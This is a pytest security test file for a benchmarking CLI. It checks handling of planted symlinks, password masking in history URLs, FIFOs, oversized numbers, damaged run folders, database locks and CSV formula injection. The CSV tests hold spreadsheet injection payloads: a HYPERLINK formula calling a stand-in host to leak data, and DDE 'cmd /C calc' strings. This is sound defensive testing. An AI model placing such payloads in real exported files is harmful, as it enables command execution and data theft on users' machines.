"""Issue 30: the newest surfaces attacked (history, report, JUnit, telemetry files, remote state).

One section per numbered defect of the issue; each test plants what an attacker, a damaged disk or
a careless hand could leave, and checks the real code path (the CLI where the user meets it).
"""

from __future__ import annotations

import contextlib
import csv
import json
import os
import re
import shutil
import signal
import sqlite3
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import click
import pytest
from click.testing import CliRunner
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from tests.history_db import PostgresServer
from workload.cli.compare_cmd import compare_command
from workload.cli.results_cmd import results_command
from workload.metrics.collection import collect
from workload.metrics.outputs import OutputContext, write_outputs
from workload.rundir import remote_run_name

ROOT = Path(__file__).resolve().parent.parent
FIX = Path(__file__).parent / "fixtures" / "results"
H200 = FIX / "nvidia" / "logs" / "2024.07.24-15.41.28"
OFFLINE = H200 / "H200-SXM-141GBx8_TRT" / "bert-99" / "Offline"


def cli(*args: str, command: click.Command | None = None) -> tuple[int, str]:
    group = click.Group("workload")
    for each in (results_command, compare_command) if command is None else (command,):
        group.add_command(each)
    result = CliRunner().invoke(group, list(args))
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    return result.exit_code, result.output


def _victim(tmp_path: Path) -> Path:
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    return victim


# -- 1. --junit follows a planted symlink ---------------------------------------------------------
def test_results_junit_replaces_a_planted_link_instead_of_writing_through_it(tmp_path: Path) -> None:
    victim = _victim(tmp_path)
    shared = tmp_path / "shared"
    shared.mkdir()
    os.symlink(victim, shared / "junit.xml")
    code, _ = cli("results", str(OFFLINE), "--output", str(shared), "--junit", str(shared / "junit.xml"))
    assert code == 0
    assert victim.read_text() == "precious\n"
    assert not (shared / "junit.xml").is_symlink()
    assert (shared / "junit.xml").read_text().startswith("<?xml")


def test_compare_junit_replaces_a_planted_link_instead_of_writing_through_it(tmp_path: Path) -> None:
    victim = _victim(tmp_path)
    runs = []
    for name in ("a", "b"):
        raw = tmp_path / "raw" / name
        shutil.copytree(OFFLINE, raw)
        write_outputs(tmp_path / name, collect(raw, host="n1").results, OutputContext())
        runs.append(str(tmp_path / name))
    os.symlink(victim, tmp_path / "compare.xml")
    code, _ = cli("compare", *runs, "--junit", str(tmp_path / "compare.xml"))
    assert code == 0
    assert victim.read_text() == "precious\n"
    assert (tmp_path / "compare.xml").read_text().startswith("<?xml")


# -- 2. passwords in --history URLs leak -----------------------------------------------------------
LEAKY = "postgresql://bob:pa/ssSECRET@db.example:5432/db?sslmode=require&password=QSECRET8"


def test_url_secrets_are_found_by_parsing_any_characters_and_secret_query_parameters() -> None:
    from workload.commands import mask_url_passwords, url_passwords

    assert mask_url_passwords(LEAKY) == "postgresql://bob:***@db.example:5432/db?sslmode=require&password=***"
    assert url_passwords(LEAKY) == ["pa/ssSECRET", "QSECRET8"]
    shown = mask_url_passwords("recorded in history postgresql://bob:p@ss/w?rd#x@host/db as r1")
    assert shown == "recorded in history postgresql://bob:***@host/db as r1"
    assert mask_url_passwords("https://store/x?sv=2024&sig=AbC%2Fsig") == "https://store/x?sv=2024&sig=***"
    # what is no secret stays as it is: SSH login names, "@" in a path, a URL without user information
    for plain in ("ssh://azureuser@10.0.0.4", "https://github.com/org/repo@v1.0", "https://h:8080/x?mode=ro"):
        assert mask_url_passwords(plain) == plain


def test_run_json_command_line_and_report_mask_history_url_secrets(tmp_path: Path) -> None:
    from workload.report.write import write_report
    from workload.runmeta import run_metadata

    meta = run_metadata("2026-11-29T00:00:00+00:00", ["workload", "run", "--history", LEAKY, f"--history={LEAKY}"])
    assert "SECRET" not in str(meta["command_line"]) and meta["command_line"][3].count("***") == 2
    # a run folder written by an older version (or by hand) keeps the URL in clear: the report masks it
    folder = tmp_path / "run"
    write_outputs(folder, collect(OFFLINE, host="h1").results, OutputContext())
    (folder / "run.json").write_text(json.dumps({"run_id": "r1", "command_line": ["workload", "--history", LEAKY]}))
    html = write_report([folder], tmp_path / "report.html").read_text()
    assert "SECRET" not in html and "postgresql://bob:***@db.example" in html


def test_results_record_and_history_json_never_show_a_password_with_at_and_slash(
    postgres_server: PostgresServer, tmp_path: Path
) -> None:
    """The server trusts the socket user, so any password connects: it must show nowhere, and its
    ``@`` must not end the password early (SQLAlchemy would connect to the host ``ss/SECRET9@``)."""
    from workload.cli.history_cmd import history_command

    database = postgres_server.create_database()
    try:
        url = f"postgresql://{postgres_server.user}:p@ss/SECRET9@/{database}?host={postgres_server.root}&password=QSECRET8"
        folder = tmp_path / "20261129-000000-P"
        write_outputs(folder, collect(OFFLINE, host="h1").results, OutputContext())
        group = click.Group("workload")
        group.add_command(results_command)
        group.add_command(history_command)
        done = CliRunner().invoke(group, ["results", str(folder), "--record", "--history", url])
        assert done.exit_code == 0, done.output
        assert "recorded in history postgresql://workload:***@/" in done.output and "SECRET" not in done.output
        listed = CliRunner().invoke(group, ["history", "--history", url, "--json"])
        assert listed.exit_code == 0 and "SECRET" not in listed.output
        assert [r["run_id"] for r in json.loads(listed.output)["runs"]] == ["20261129-000000-P"]
    finally:
        postgres_server.drop_database(database)


_PASSWORD_CHARS = st.characters(
    codec="utf-8", exclude_characters=" \t\n\r\x0b\x0c\"'<>`", exclude_categories=("Z", "C")
)


@settings(max_examples=300, deadline=None)
@given(
    password=st.text(_PASSWORD_CHARS, min_size=4, max_size=30),
    query_name=st.sampled_from(["password", "sslpassword", "token", "api_key", "sig", "client_secret"]),
    query_value=st.text(_PASSWORD_CHARS.filter(lambda c: c not in "&#"), min_size=4, max_size=20),
    prefix=st.sampled_from(["", "--history=", "recorded in history ", '{"history": "']),
)
def test_fuzz_no_url_secret_survives_masking(password: str, query_name: str, query_value: str, prefix: str) -> None:
    """Whatever a password holds (``/``, ``@``, ``?``, ``#``, ``:``), neither it nor a secret query value shows."""
    from workload.commands import mask_url_passwords
    from workload.history.db import display_url, parse_url

    assume("***" not in password and "***" not in query_value)
    url = f"postgresql://bob:{password}@db.example/db?{query_name}={query_value}"
    shown = mask_url_passwords(prefix + url + " done")
    assert password not in shown and query_value not in shown
    assert shown.endswith(" done") and shown.startswith(prefix + "postgresql://bob:***")
    if not set("?#") & set(password) and "@" not in query_value:  # unambiguous: it connects as written
        parsed = parse_url(url)
        assert parsed.password == password.replace("%40", "@") or "%" in password
        assert parsed.host == "db.example" and password not in display_url(parsed)


# -- 4. FIFOs hang results and report ---------------------------------------------------------------
TREES = FIX / "trees"
V61 = TREES / "v6.1"
V61_SCENARIO = "closed/NVIDIA/results/VR-NVL72_VR-288GB_aarch64x72_TRT/deepseek-r1/Server"


def _with_fifo(tmp_path: Path, source: Path, relative: str) -> Path:
    """A copy of ``source`` whose file ``relative`` is replaced by a FIFO nobody writes to."""
    tree = tmp_path / "tree"
    shutil.copytree(source, tree)
    target = tree / relative
    target.unlink(missing_ok=True)
    os.mkfifo(target)
    return tree


@pytest.mark.parametrize(
    ("source", "relative"),
    [
        (OFFLINE, "workload-config-source.json"),  # beside a metadata.json: the sidecar of a kept result
        (V61, f"{V61_SCENARIO}/config.yaml"),  # the endpoints client's configuration
        (V61, "closed/NVIDIA/systems/VR-NVL72_VR-288GB_aarch64x72_TRT.json"),  # a submission's system
    ],
)
def test_results_name_a_fifo_in_the_tree_instead_of_blocking_on_it(tmp_path: Path, source: Path, relative: str) -> None:
    tree = _with_fifo(tmp_path, source, relative)
    done = _bounded_cli(["results", str(tree), "--host", "h1"])
    assert done.returncode == 6, done.stdout + done.stderr
    assert "not a regular file (a FIFO)" in done.stdout + done.stderr
    assert relative.rsplit("/", 1)[-1] in done.stdout + done.stderr


def test_report_names_a_fifo_in_the_run_folder_instead_of_blocking_on_it(tmp_path: Path) -> None:
    folder = tmp_path / "run"
    write_outputs(folder, collect(OFFLINE, host="h1").results, OutputContext())
    (folder / "telemetry").mkdir()
    os.mkfifo(folder / "telemetry" / "summary.json")
    done = _bounded_cli(["report", str(folder)])
    assert done.returncode == 2, done.stdout + done.stderr
    assert "telemetry/summary.json: cannot be read: not a regular file (a FIFO)" in done.stderr


def test_read_regular_refuses_special_files_without_blocking(tmp_path: Path) -> None:
    from workload.safefile import NotRegularFile, TooLarge, read_regular

    os.mkfifo(tmp_path / "fifo")
    with pytest.raises(NotRegularFile, match="a FIFO"):
        read_regular(tmp_path / "fifo")
    with pytest.raises(NotRegularFile, match="a character device"):
        read_regular("/dev/zero")
    with pytest.raises(NotRegularFile, match="a folder"):
        read_regular(tmp_path)
    (tmp_path / "big").write_bytes(b"x" * 101)
    with pytest.raises(TooLarge):
        read_regular(tmp_path / "big", 100)
    assert read_regular(tmp_path / "big", 101) == b"x" * 101


def _bounded_cli(args: list[str], *, timeout: float = 60) -> subprocess.CompletedProcess[str]:
    """The real CLI in a process of its own: a read that blocks fails the test by its timeout, not by hanging it."""
    return subprocess.run(
        [sys.executable, "-m", "workload", *args], capture_output=True, text=True, timeout=timeout, check=False
    )


# -- 5. crashes on bad input ------------------------------------------------------------------------
HUGE = "9" * 5000


def test_a_5000_digit_number_in_a_profile_is_named_not_a_crash(tmp_path: Path) -> None:
    profile = json.loads((ROOT / "profiles" / "PERF-CPU-MLPERF.json").read_text())
    text = json.dumps(profile).replace('"Parameters": {', f'"Parameters": {{"Huge": {HUGE}, ', 1)
    (tmp_path / "P.json").write_text(text)
    done = _bounded_cli(["show", str(tmp_path / "P.json")])
    assert done.returncode == 2, done.stderr
    assert "P.json: Parameters.Huge: a number of 5000 digits is out of range" in done.stderr
    assert "internal error" not in done.stderr


@pytest.mark.parametrize("port", [HUGE, f'"{HUGE}"', "1e999"])
def test_a_huge_inventory_port_is_named_not_a_crash(tmp_path: Path, port: str) -> None:
    from workload.errors import UsageError
    from workload.inventory import load_inventory

    path = tmp_path / "fleet.json"
    path.write_text(f'{{"hosts": [{{"host": "10.0.0.4", "port": {port}}}]}}')
    with pytest.raises(UsageError, match=r"fleet.json: hosts\[0\](\.port)?: ") as err:
        load_inventory(path)
    assert len(str(err.value)) < 300
    (tmp_path / "fleet.txt").write_text(f"10.0.0.4 port={HUGE}\n")
    with pytest.raises(UsageError, match="is not a number between 1 and 65535"):
        load_inventory(tmp_path / "fleet.txt")


@pytest.mark.parametrize(
    "args",
    [
        ["--since", "999999d"],
        ["--since", "99999999999999999999w"],
        ["--since", "9999-12-31T23:59:59-23:59"],
        ["--limit", "99999999999999999999"],
    ],
)
def test_history_filters_out_of_range_are_usage_errors(tmp_path: Path, args: list[str]) -> None:
    done = _bounded_cli(["history", "--history", f"sqlite:///{tmp_path / 'h.sqlite'}", *args])
    assert done.returncode == 2, done.stderr
    assert "Traceback" not in done.stderr and "internal error" not in done.stderr


def _run_folder(tmp_path: Path) -> Path:
    folder = tmp_path / "20261129-000000-P"
    write_outputs(folder, collect(OFFLINE, host="h1").results, OutputContext())
    (folder / "run.json").write_text(json.dumps({"run_id": folder.name, "controller": {"cpu_model": "x"}}))
    (folder / "telemetry").mkdir()
    summary = {"hosts": {"h1": {"devices": {"gpu0": {"name": "H200", "metrics": {"power": _STAT}}}}}}
    (folder / "telemetry" / "summary.json").write_text(json.dumps(summary))
    sample = {"time": "2026-11-29T00:00:00+00:00", "host": "h1", "device": "gpu0", "values": {"power": 1}}
    (folder / "telemetry" / "samples.jsonl").write_text(json.dumps(sample) + "\n")
    return folder


_STAT = {"min": 1, "avg": 2, "max": 3, "unit": "W"}


def _damage(path: Path, edit: Callable[[Any], Any]) -> None:
    path.write_text(json.dumps(edit(json.loads(path.read_text()))))


def _headline(value: str) -> Callable[[Path], None]:
    def damage(folder: Path) -> None:
        text = (folder / "summary.json").read_text()
        start = text.index('"headline"')
        at = text.index('"value":', start) + len('"value":')
        end = min(text.index(",", at), text.index("}", at))
        (folder / "summary.json").write_text(text[:at] + " " + value + text[end:])

    return damage


DAMAGES: dict[str, tuple[Callable[[Path], None], str]] = {
    "results is a number": (
        lambda f: _damage(f / "summary.json", lambda d: d | {"results": 5}),
        "summary.json: results: expected an array, not a number",
    ),
    "headline Infinity": (_headline("Infinity"), "summary.json: results[0].headline.value: 'Infinity' is not a finite"),
    "headline 1e999": (_headline("1e999"), "summary.json: results[0].headline.value: '1e999' is not a finite"),
    "headline 5000 digits": (_headline(HUGE), "results[0].headline.value: a number of 5000 digits is out of range"),
    "telemetry sample 1e999": (
        lambda f: (f / "telemetry" / "samples.jsonl").write_text(
            '{"time": "2026-11-29T00:00:01+00:00", "host": "h1", "device": "gpu0", "values": {"power": 1e999}}\n'
        ),
        "samples.jsonl:1: values.power: '1e999' is not a finite number",
    ),
    "metrics line is a list": (
        lambda f: (f / "metrics.jsonl").write_text("[1,2]\n"),
        "metrics.jsonl:1: expected a JSON object",
    ),
    "telemetry stat without min": (
        lambda f: _damage(
            f / "telemetry" / "summary.json",
            lambda d: {"hosts": {"h1": {"devices": {"gpu0": {"metrics": {"power": {"avg": 1, "max": 2}}}}}}},
        ),
        "summary.json: hosts.h1.devices.gpu0.metrics.power.min: missing",
    ),
    "controller is a list": (
        lambda f: _damage(f / "run.json", lambda d: d | {"controller": [1]}),
        "run.json: controller: expected an object, not an array",
    ),
}


@pytest.mark.parametrize("damage", sorted(DAMAGES))
def test_report_names_the_damaged_file_and_place_and_exits_2(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], damage: str
) -> None:
    from workload.cli import invoke

    folder = _run_folder(tmp_path)
    assert invoke(["report", str(folder)]) == 0  # the undamaged folder reports
    edit, expected = DAMAGES[damage]
    edit(folder)
    capsys.readouterr()
    assert invoke(["report", str(folder)]) == 2
    err = capsys.readouterr().err
    assert expected in err and "internal error" not in err


# -- 8. CSV formula injection ------------------------------------------------------------------------
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _csv_cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_metrics_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    results = [
        result.model_copy(
            update={
                "benchmark_full": '=HYPERLINK("http://x.example/?leak","click")',
                "metrics": [
                    m.model_copy(update={"scenario_name": "@SUM(1+1)*cmd|' /C calc'!A0"}) for m in result.metrics
                ],
            }
        )
        for result in collect(OFFLINE, host="=cmd|' /C calc'!A0").results
    ]
    write_outputs(tmp_path, results, OutputContext(profile_name="-2+3+cmd|' /C calc'!A0"))
    rows = _csv_cells(tmp_path / "metrics.csv")
    header, body = rows[0], rows[1:]
    assert body and all(len(row) == len(header) for row in body)
    for row in body:
        for cell in row:
            assert not cell.startswith(FORMULA_START) or re.fullmatch(r"[+-]?[\d.]+([eE][+-]?\d+)?", cell), cell
    first = dict(zip(header, body[0], strict=True))
    assert first["ClientId"] == "'=cmd|' /C calc'!A0"
    assert first["ScenarioName"] == "'@SUM(1+1)*cmd|' /C calc'!A0" and first["ProfileName"].startswith("'-2+3")
    # metrics.jsonl keeps the values as they are, and a merge into the folder keeps the rows it finds
    assert '"host":"=cmd|\' /C calc\'!A0"' in (tmp_path / "metrics.jsonl").read_text()
    write_outputs(tmp_path, collect(OFFLINE, host="other").results, OutputContext())
    again = _csv_cells(tmp_path / "metrics.csv")
    assert [r for r in again if r[header.index("ClientId")] == "'=cmd|' /C calc'!A0"] == body


@settings(max_examples=60, deadline=None)
@given(host=st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), min_size=1, max_size=20))
def test_fuzz_csv_cells_of_any_host_name(host: str) -> None:
    from workload.metrics.records import quote, spreadsheet_safe

    cell = next(csv.reader([quote(host)]))[0]
    assert cell == spreadsheet_safe(host) and spreadsheet_safe(cell) == cell
    assert cell == host or (cell == "'" + host and host.startswith(FORMULA_START))
    assert not cell.startswith(FORMULA_START) or re.fullmatch(r"[+-]?[\d.]+([eE][+-]?\d+)?", cell)


@settings(max_examples=60, deadline=None)
@given(texts=st.lists(st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=30), min_size=3))
def test_fuzz_junit_of_any_text_is_valid_xml_with_the_text_kept(texts: list[str]) -> None:
    import tempfile
    import xml.etree.ElementTree as ET

    from workload.metrics.junit import Case, write

    classname, name, failure = texts[0], texts[1], texts[2]
    with tempfile.TemporaryDirectory() as folder:
        path = write(Path(folder) / "j.xml", [Case(classname, name, failures=[failure or "x"])], suite=texts[-1])
        case = ET.parse(path).getroot().find("./testsuite/testcase")
    assert case is not None
    xml_char = re.compile("[^\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")
    assert case.get("classname") == xml_char.sub("\ufffd", classname)
    assert case.get("name") == xml_char.sub("\ufffd", name)
    assert (case.findtext("failure") or "") == xml_char.sub("\ufffd", failure or "x").replace("\r\n", "\n").replace(
        "\r", "\n"
    ) or "\r" in failure


# -- 6. exit codes and side effects of the history --------------------------------------------------
def test_a_corrupt_history_file_exits_with_the_history_code_not_the_unreachable_host_code(tmp_path: Path) -> None:
    from workload.errors import EXIT_CONNECT, EXIT_HISTORY

    broken = tmp_path / "h.sqlite"
    broken.write_bytes(b"this is not a database file\n" * 200)
    done = _bounded_cli(["history", "--history", f"sqlite:///{broken}"])
    assert done.returncode == EXIT_HISTORY == 9 != EXIT_CONNECT, done.stderr
    assert f"history sqlite:///{broken}: file is not a database" in done.stderr
    assert "| 9 | the run history could not be opened" in (ROOT / "README.md").read_text()
    assert "9 the run history could not be opened" in " ".join(_bounded_cli(["--help"]).stdout.split())


def test_reading_commands_create_no_history_and_no_folder(tmp_path: Path) -> None:
    missing = tmp_path / "nonexist" / "x.sqlite"
    done = _bounded_cli(["history", "--history", f"sqlite:///{missing}"])
    assert done.returncode == 9 and "no such history" in done.stderr, done.stderr
    folder = tmp_path / "run"
    write_outputs(folder, collect(OFFLINE, host="h1").results, OutputContext())
    done = _bounded_cli(["compare", "--baseline", "last-good", str(folder), "--history", f"sqlite:///{missing}"])
    assert done.returncode == 9, done.stderr
    assert not (tmp_path / "nonexist").exists()


# -- 3. waits on a locked history: bounded, interruptible -------------------------------------------
def _recorded_history(tmp_path: Path) -> tuple[str, Path]:
    """A SQLite history with one run in it, and a results folder to record."""
    url = f"sqlite:///{tmp_path / 'h.sqlite'}"
    folder = tmp_path / "20261129-000000-P"
    write_outputs(folder, collect(OFFLINE, host="h1").results, OutputContext())
    assert _bounded_cli(["results", str(folder), "--record", "--history", url]).returncode == 0
    return url, folder


def _locked(path: Path) -> sqlite3.Connection:
    """A second writer that holds the database's write lock (as a concurrent ``--record`` does)."""
    holder = sqlite3.connect(path, isolation_level=None, timeout=0)
    holder.execute("BEGIN IMMEDIATE")
    holder.execute("DELETE FROM runs WHERE run_id = 'nothing'")
    return holder


def _signalled(args: list[str], signum: int, ready: Callable[[], bool]) -> tuple[int, float, str]:
    """Run the CLI, send it ``signum`` once ``ready()`` holds (bounded wait, the CLI still running); (exit code,
    seconds from the signal to the exit, stderr). The signal waits for what the test needs to have happened (the
    outputs written, the wait on the lock begun), not for a fixed time a loaded machine may need more than."""
    process = subprocess.Popen(
        [sys.executable, "-m", "workload", *args], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
    )
    deadline = time.monotonic() + 120
    while not ready():
        assert process.poll() is None, (
            f"the command ended before the signal: it did not wait on the lock\n{process.communicate()[1]}"
        )
        assert time.monotonic() < deadline, "the command never got to the lock"
        time.sleep(0.1)
    assert process.poll() is None, "the command ended before the signal: it did not wait on the lock"
    process.send_signal(signum)
    signalled = time.monotonic()
    try:
        _, err = process.communicate(timeout=30)
    except subprocess.TimeoutExpired:
        process.kill()
        _, err = process.communicate()
    return process.returncode, time.monotonic() - signalled, err


def test_history_readers_never_wait_for_a_sqlite_writer(tmp_path: Path) -> None:
    url, _ = _recorded_history(tmp_path)
    holder = _locked(tmp_path / "h.sqlite")
    try:
        done = _bounded_cli(["history", "--history", url, "--json"], timeout=20)
    finally:
        holder.rollback()
        holder.close()
    assert done.returncode == 0, done.stderr
    assert [r["run_id"] for r in json.loads(done.stdout)["runs"]] == ["20261129-000000-P"]


@pytest.mark.parametrize("signum", [signal.SIGINT, signal.SIGTERM])
def test_record_on_a_locked_sqlite_history_ends_on_a_signal_with_the_results_kept(
    tmp_path: Path, signum: signal.Signals
) -> None:
    url, folder = _recorded_history(tmp_path)
    out = tmp_path / "out"
    holder = _locked(tmp_path / "h.sqlite")
    try:
        # SQLite's wait on the lock is inside the process: the outputs (written before the history) are the mark.
        ready = (out / "summary.json").exists
        code, seconds, err = _signalled(
            ["results", str(folder), "--record", "--history", url, "-o", str(out)], signum, ready
        )
    finally:
        holder.rollback()
        holder.close()
    assert code == 130 and seconds < 10, (code, seconds, err)
    assert json.loads((out / "summary.json").read_text())["counts"]["results"] == 1


@contextlib.contextmanager
def _locked_postgresql_history(server: PostgresServer, tmp_path: Path) -> Iterator[tuple[str, Path]]:
    """(URL, results folder): a history on the test server with that folder recorded, whose ``runs``
    table another session holds locked (a long transaction, a DBA's ``LOCK TABLE``) while the block runs."""
    import psycopg

    database = server.create_database()
    try:
        url = server.url(database)
        folder = tmp_path / "20261129-000000-P"
        write_outputs(folder, collect(OFFLINE, host="h1").results, OutputContext())
        assert _bounded_cli(["results", str(folder), "--record", "--history", url]).returncode == 0
        with psycopg.connect(host=str(server.root), user=server.user, dbname=database) as holder:
            holder.execute("LOCK TABLE runs IN ACCESS EXCLUSIVE MODE")
            yield url, folder
            holder.rollback()
    finally:
        server.drop_database(database)


def _waits_on_a_lock(server: PostgresServer, url: str) -> bool:
    """Whether a session of the history's database waits on a lock (the server's own view, pg_stat_activity)."""
    import psycopg

    database = url.split("@/", 1)[1].split("?", 1)[0]
    with psycopg.connect(host=str(server.root), user=server.user, dbname="postgres") as probe:
        row = probe.execute(
            "SELECT count(*) FROM pg_stat_activity WHERE datname = %s AND wait_event_type = 'Lock'", (database,)
        ).fetchone()
    return bool(row and row[0])


def test_record_on_a_locked_postgresql_history_ends_on_sigterm_with_the_results_kept(
    postgres_server: PostgresServer, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    with _locked_postgresql_history(postgres_server, tmp_path) as (url, folder):
        args = ["results", str(folder), "--record", "--history", url, "-o", str(out)]
        code, seconds, err = _signalled(args, signal.SIGTERM, lambda: _waits_on_a_lock(postgres_server, url))
    assert code == 130 and seconds < 10, (code, seconds, err)
    assert json.loads((out / "summary.json").read_text())["counts"]["results"] == 1


@pytest.mark.heavy(seconds=32)  # waits out the 30 s lock timeout
def test_record_behind_a_held_postgresql_lock_gives_up_with_a_warning_and_keeps_the_exit_code(
    postgres_server: PostgresServer, tmp_path: Path
) -> None:
    """No signal: the server's lock_timeout ends the wait (it used to last as long as the lock)."""
    with _locked_postgresql_history(postgres_server, tmp_path) as (url, folder):
        started = time.monotonic()
        done = _bounded_cli(["results", str(folder), "--record", "--history", url], timeout=120)
        waited = time.monotonic() - started
    assert done.returncode == 0, done.stderr
    assert "warning: the run was not recorded in the history" in done.stderr and "lock timeout" in done.stderr
    assert waited < 90  # the 30 s lock timeout, a CLI start-up and the rest of the command


def test_postgresql_sessions_carry_lock_and_statement_timeouts(postgres_server: PostgresServer) -> None:
    from sqlalchemy import text

    from workload.history import open_history

    database = postgres_server.create_database()
    try:
        with open_history(postgres_server.url(database)) as history, history.engine.connect() as conn:
            lock = conn.execute(text("SHOW lock_timeout")).scalar_one()
            statement = conn.execute(text("SHOW statement_timeout")).scalar_one()
        assert (lock, statement) == ("30s", "5min")
    finally:
        postgres_server.drop_database(database)


# -- 7. nodes that share a home directory -----------------------------------------------------------
def test_hosts_sharing_a_home_run_loadgen_in_folders_of_their_own(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Two "remote" nodes with one $HOME (as on NFS or a Slurm cluster) run at once: each gets its own results."""
    import threading

    from tests.test_loadgen_executor import QUICK, ForeignHost, make_ctx, make_step
    from workload.hosts.base import HostIdentity

    class Node(ForeignHost):
        def __init__(self, name: str) -> None:
            super().__init__()
            self.name = name
            self._identity = HostIdentity(user="u", uid=os.getuid(), home=str(tmp_path / "home"), node=name)

    monkeypatch.setenv("PYTHONPATH", str(ROOT))  # the package "installed" on the nodes
    runs = {"n1": 96, "n2": 64}  # sample counts that tell the two nodes' results apart
    contexts, errors = {}, []

    def run(name: str) -> None:
        try:
            params = {**QUICK, "SampleCount": runs[name]}
            step = make_step(Scenarios="Offline", TestModes="PerformanceOnly", Python=sys.executable, **params)
            contexts[name] = ctx = make_ctx(Node(name), tmp_path)
            step.apply(ctx, step.plan(ctx))
            step.verify(ctx)
        except Exception as exc:  # reported below, with the node
            errors.append(f"{name}: {exc}")

    threads = [threading.Thread(target=run, args=(name,)) for name in runs]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=170)
    assert not errors, errors
    for name, samples in runs.items():
        (folder,) = contexts[name].results
        assert json.loads((folder / "settings.json").read_text())["sample_count"] == samples
        run_name = remote_run_name(contexts[name].host_dir.parent)
        remote = tmp_path / "home/.local/state/workload/nodes" / name / "loadgen" / run_name / "loadgen/minilm-int8"
        copied = (folder / "mlperf_log_detail.txt").read_bytes()
        assert copied == (remote / "Offline/performance/run_1/mlperf_log_detail.txt").read_bytes()
    details = [(contexts[n].results[0] / "mlperf_log_detail.txt").read_bytes() for n in runs]
    assert details[0] != details[1]


def test_host_state_of_nodes_sharing_a_home_is_one_file_per_node(tmp_path: Path) -> None:
    from tests.test_loadgen_executor import ForeignHost
    from workload.hosts.base import HostIdentity
    from workload.hoststate import HostState

    home = tmp_path / "home"
    earlier = home / ".local/state/workload/state.json"
    earlier.parent.mkdir(parents=True)
    earlier.write_text('{"kept": 1}')
    states = {}
    for name in ("n1", "n/2"):
        host = ForeignHost()
        host._identity = HostIdentity(user="u", uid=os.getuid() or 1000, home=str(home), node=name)
        states[name] = HostState(host)
    assert states["n1"].path == f"{home}/.local/state/workload/nodes/n1/state.json"
    assert states["n/2"].path == f"{home}/.local/state/workload/nodes/n_2/state.json"  # a name is never a path
    assert states["n1"].get("kept") == 1  # the home's earlier state seeds a node that has none yet


# -- fuzzing the new input surfaces: history filters, run folders for report --------------------------
@pytest.fixture(scope="module")
def fuzz_history(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    """One SQLite history for every example of the filter fuzzing (opening one per example is slow)."""
    from workload.history import open_history

    with open_history(f"sqlite:///{tmp_path_factory.mktemp('fuzz') / 'h.sqlite'}") as store:
        yield store


@settings(max_examples=150, deadline=None)
@given(
    since=st.one_of(
        st.text(max_size=40),
        st.from_regex(r"\A[0-9]{1,30} ?[mhdwMHDW]\Z"),
        st.datetimes(timezones=st.timezones()).map(lambda d: d.isoformat()),
        st.from_regex(r"\A[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9]{2}:[0-9]{2}[+-][0-9]{2}:[0-9]{2}\Z"),
    ),
    limit=st.integers(min_value=1, max_value=1_000_000),
)
def test_fuzz_history_filters_are_a_time_or_a_usage_error(fuzz_history: Any, since: str, limit: int) -> None:
    from workload.errors import UsageError
    from workload.history import parse_since

    try:
        when = parse_since(since)
    except UsageError as exc:
        assert "--since" in str(exc)
        return
    assert when.tzinfo is not None and when.utcoffset() is not None
    fuzz_history.runs(since=when, limit=limit)  # the database takes what the parser gave


_JSON = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=True, allow_infinity=True)
    | st.text(max_size=10)
    | st.sampled_from(["1e999", "9" * 5000]),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=8,
)
_PLACES = [
    ("summary.json", ("results",)),
    ("summary.json", ("results", 0)),
    ("summary.json", ("results", 0, "headline")),
    ("summary.json", ("results", 0, "headline", "value")),
    ("summary.json", ("results", 0, "invalid_reasons")),
    ("summary.json", ("verdict",)),
    ("summary.json", ("issues",)),
    ("run.json", ("controller",)),
    ("run.json", ("controller", "packages")),
    ("run.json", ("command_line",)),
    ("run.json", ("tool",)),
    ("run.json", ("exit_code",)),
    ("telemetry/summary.json", ("hosts",)),
    ("telemetry/summary.json", ("hosts", "h1", "devices", "gpu0", "metrics", "power")),
    ("telemetry/summary.json", ("hosts", "h1", "throttling")),
]


@settings(max_examples=120, deadline=None)
@given(place=st.sampled_from(_PLACES), value=_JSON, raw_number=st.sampled_from(["", "1e999", "Infinity", "9" * 5000]))
def test_fuzz_report_of_a_damaged_run_folder_is_a_report_or_a_usage_error(
    tmp_path_factory: pytest.TempPathFactory, place: tuple[str, tuple[str | int, ...]], value: Any, raw_number: str
) -> None:
    from workload.errors import UsageError
    from workload.report.write import write_report

    folder = _run_folder(tmp_path_factory.mktemp("fuzz"))
    name, path = place
    document = json.loads((folder / name).read_text())
    node = document
    for key in path[:-1]:
        node = node[key]
    node[path[-1]] = value
    text = json.dumps(document)
    if raw_number:  # a number json.dumps cannot write: spliced into the text as a damaged file holds it
        text = text.replace("3}", f"{raw_number}}}", 1)
    (folder / name).write_text(text)
    try:
        report = write_report([folder])
    except UsageError as exc:
        assert str(folder) in str(exc)
        return
    assert report.read_text().startswith("<!DOCTYPE html>")
